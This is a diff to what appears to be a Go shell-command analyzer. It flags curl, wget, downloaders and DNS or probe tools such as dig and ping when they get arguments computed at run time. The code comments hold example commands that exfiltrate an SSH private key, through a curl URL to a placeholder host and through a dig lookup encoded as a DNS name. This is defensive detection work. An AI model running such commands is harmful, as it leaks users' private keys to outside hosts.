@@ -319,8 +319,33 @@ func downloaderCmd(c *analysis.Cmd) {
 
 func registerDownloaders(t *tableSet) {
 	for n := range t.downloaders {
-		t.handlers[n] = downloaderCmd
+		t.handlers[n] = sendsComputed(downloaderCmd)
 	}
-	t.handlers["curl"] = curlCmd
-	t.handlers["wget"] = wgetCmd
+	t.handlers["curl"] = sendsComputed(curlCmd)
+	t.handlers["wget"] = sendsComputed(wgetCmd)
+	// Name lookups and probes send the names they are given to servers
+	// elsewhere: dig "$(head -c 40 ~/.ssh/id_rsa | base64).example.com".
+	for _, n := range []string{"ping", "ping6", "fping", "arping", "dig", "drill", "host", "nslookup", "whois",
+		"traceroute", "traceroute6", "tracepath", "mtr", "getent"} {
+		t.handlers[n] = sendsComputed(t.handlers[n])
+	}
+}
+
+// sendsComputed flags a network client given an argument whose value is
+// known only at run time: in a URL, a header or a form field it is sent
+// to another machine, and a command substitution can make it any file's
+// contents (curl "http://x/?k=$(cat ~/.ssh/id_rsa)"). Values known now,
+// such as $HOME, are plain.
+func sendsComputed(next analysis.Handler) analysis.Handler {
+	return func(c *analysis.Cmd) {
+		for _, w := range c.Args {
+			if _, known := c.Analyzer.Resolve(w); !known {
+				c.Risk(analysis.KindOption, c.Base+" "+w.String(), "sends a value computed at run time to another machine: it may hold a file's contents")
+				break
+			}
+		}
+		if next != nil {
+			next(c)
+		}
+	}
 }
